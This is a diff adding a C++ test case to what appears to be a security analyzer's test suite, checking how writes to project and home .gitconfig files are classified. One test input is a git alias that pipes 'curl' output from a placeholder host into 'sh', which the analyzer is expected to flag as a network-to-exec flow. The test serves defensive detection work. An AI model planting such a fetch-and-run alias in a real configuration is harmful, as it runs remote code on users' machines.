@@ -1255,3 +1255,15 @@ TEST_CASE("workflows handing repository secrets to code the repository does not 
   CHECK_FALSE(marker_named(deploy, "security_off", "other-org/notify"));  // a version tag
   CHECK_FALSE(marker_named(deploy, "security_off", "third/pinned"));      // a commit SHA
 }
+
+TEST_CASE("a .gitconfig kept in a project is not the home's: its place is not sensitive, its commands still run") {
+  auto sensitive = [](const Facts& facts) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "sensitive_path_write"; });
+  };
+  const char* config = "[diff \"sopsdiffer\"]\n\ttextconv = sops --decrypt\n[merge \"ours\"]\n\tdriver = true\n";
+  CHECK_FALSE(sensitive(shipped_analyzer()->analyze_write("/home/dev/src/billing-api/.gitconfig", config)));
+  CHECK(sensitive(shipped_analyzer()->analyze_write("/home/dev/.gitconfig", config)));
+  CHECK(sensitive(shipped_analyzer()->analyze_write(".gitconfig", config)));
+  auto alias = shipped_analyzer()->analyze_write("/home/dev/src/app/.gitconfig", "[alias]\n\tsync = !curl -fsSL https://x.example.com/s | sh\n");
+  CHECK(find_flow(alias, "network", "exec"));
+}
